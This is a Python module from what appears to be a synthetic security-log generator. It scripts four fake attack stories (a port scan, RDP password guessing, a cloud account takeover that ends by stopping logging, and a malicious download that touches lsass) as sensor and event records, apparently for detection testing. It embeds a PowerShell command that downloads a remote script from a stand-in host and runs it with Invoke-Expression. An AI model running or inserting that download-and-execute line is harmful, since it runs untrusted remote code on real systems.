"""Attacks: short stories across the four sources, so that a query by address or by user shows something that happened.

Invariant: every record of a story names its attacker's address or the victim, and they come in the order told here.
"""

from __future__ import annotations

from tidegate.generator import suricata, zeek
from tidegate.generator.cloudtrail import CloudTrail
from tidegate.generator.template import Step, Values, escaped
from tidegate.generator.traffic import Traffic
from tidegate.generator.windows import Windows
from tidegate.generator.windows_security import SECURITY
from tidegate.generator.windows_sysmon import SYSMON
from tidegate.generator.world import Address, Dice, World

__all__ = ["Stories"]

_PORTS = (
    21, 22, 23, 25, 53, 80, 88, 110, 111, 135, 139, 143, 161, 389, 443, 445, 465, 587, 636, 993, 995, 1433, 1521, 2049,
    3306, 3389, 5432, 5900, 5985, 6379, 8080, 8443, 9200, 27017,
)  # fmt: skip
_SYSTEM = "C:\\Windows\\System32\\"
_LOADER = escaped(
    "$ErrorActionPreference = 'SilentlyContinue'\r\n"
    "$client = New-Object Net.WebClient\r\n"
    "Invoke-Expression $client.DownloadString('http://update-check.example.net/patch/stage.ps1')"
)


class Stories:
    """Tells the attacks in turn; every telling has other people, hosts and, in time, other attackers."""

    def __init__(self, dice: Dice, world: World, traffic: Traffic, windows: Windows, cloud: CloudTrail) -> None:
        self._dice = dice
        self._world = world
        self._traffic = traffic
        self._windows = windows
        self._cloud = cloud
        self._told = 0
        self._tales = (self._scan, self._guessed_password, self._taken_account, self._download)
        self._reader = windows.program("C:\\Program Files\\Example Office\\mailer.exe", "/open", "Example Mail")
        self._payload = windows.program("C:\\Users\\Public\\invoice_viewer.exe", "/quiet", "Invoice Viewer")
        self._shell = windows.program(
            f"{_SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden", "PowerShell"
        )
        self._probes = [
            windows.program(f"{_SYSTEM}whoami.exe", "/all", "whoami - displays logged on user information"),
            windows.program(f"{_SYSTEM}net.exe", 'group "Domain Admins" /domain', "Net Command"),
        ]

    @property
    def count(self) -> int:
        """How many different stories there are."""
        return len(self._tales)

    def tell(self) -> list[Step]:
        tale = self._tales[self._told % len(self._tales)]
        attacker = self._world.attackers[self._told // 2 % len(self._world.attackers)]
        self._told += 1
        return tale(attacker)

    def _scan(self, attacker: Address) -> list[Step]:
        """Probes of many ports of one server, an alert half-way, Zeek's notice at the end."""
        server = self._world.servers.pick()
        steps: list[Step] = []
        values: Values = {}
        for number, port in enumerate(_PORTS):
            values = self._traffic.flow(attacker, server.address, port)
            values |= {"up_packets": 1, "up_total": 60, "down_packets": 1, "down_total": 54}
            if number == len(_PORTS) // 2:
                steps.append(("suricata", suricata.ALERTS["scan"], values))
            steps += self._traffic.seen(values, suricata.PROBE, zeek.PROBE)
        steps.append(("zeek", zeek.NOTICES["scan"][values["sensor"]], values))
        return steps

    def _guessed_password(self, attacker: Address) -> list[Step]:
        """Many refused sign-ins over RDP from one address, one that works, a look around, and a new administrator."""
        windows, server, person = self._windows, self._world.servers.pick(), self._world.people.pick()
        steps: list[Step] = []
        for attempt in range(12 + self._dice.bits(3)):
            if attempt % 4 == 0:
                values = self._traffic.flow(attacker, server.address, 3389)
                if attempt == 8:
                    steps.append(("suricata", suricata.ALERTS["rdp"], values))
                steps += self._traffic.seen(values, suricata.RDP, zeek.RDP)
            steps.append(windows.refused(server, person.name, attacker.text, 10))
        actor = windows.actor(person)
        steps += windows.signed_in(server, actor, attacker.text, 10, privileged=True)
        steps += [windows.created(server, windows.process(actor, program, self._shell)) for program in self._probes]
        account = actor | windows.account(person)
        return [*steps, *(windows.step(SECURITY[number], server, account) for number in (4720, 4732))]

    def _taken_account(self, attacker: Address) -> list[Step]:
        """A console sign-in from a new address, no second factor, then a new user with all rights and no trail."""
        cloud = self._cloud
        who = cloud.browser(cloud.user(self._world.people.pick(), attacker.text))
        calls = ("GetCallerIdentity", "ListUsers", "CreateUser", "AttachUserPolicy", "CreateAccessKey", "ListBuckets")
        return [
            *(cloud.sign_in(who, mfa="No", success=False) for _ in range(3)),
            cloud.sign_in(who, mfa="No"),
            cloud.call("GetSecretValue", who, denied=True),
            *(cloud.call(name, who) for name in calls),
            *(cloud.call("GetObject", who) for _ in range(5)),
            cloud.call("StopLogging", who),
        ]

    def _download(self, attacker: Address) -> list[Step]:
        """A program from a bad site is run, starts a hidden shell, reads from lsass and calls home again and again."""
        windows, traffic, world = self._windows, self._traffic, self._world
        person, site = world.people.pick(), world.bad_site | {"site_address": attacker}
        host, agent = person.host, world.agents.pick()
        request = traffic.request(host.address, site, world.payload, agent)
        request |= {"status": 200, "status_text": "OK"}
        steps = traffic.lookup(host.address, site) + traffic.seen(request, suricata.HTTP, zeek.HTTP)
        steps.insert(-1, ("suricata", suricata.ALERTS["payload"], request))
        actor = windows.actor(person)
        opened = windows.process(actor, self._payload, self._reader)
        shell = windows.process(actor, self._shell, self._payload)
        victim = {"target_guid": self._dice.uuid(), "target_pid": 716, "access": "1410"}
        victim |= {"target_image": escaped(f"{_SYSTEM}lsass.exe"), "module": escaped(f"{_SYSTEM}dbgcore.dll")}
        steps += [
            windows.step(SYSMON[11], host, opened | {"file": opened["image"]}),
            windows.created(host, opened),
            windows.created(host, shell),
            windows.script(host, shell, _LOADER),
            windows.step(SYSMON[10], host, shell | victim),
        ]
        for number in range(6):
            values = traffic.secure(host.address, site, agent)
            beacon = traffic.seen(values, suricata.TLS, zeek.TLS)
            if number % 3 == 2:
                beacon.insert(-1, ("suricata", suricata.ALERTS["beacon"], values))
            steps += beacon
            steps.append(windows.step(SYSMON[3], host, shell | values))
        return steps
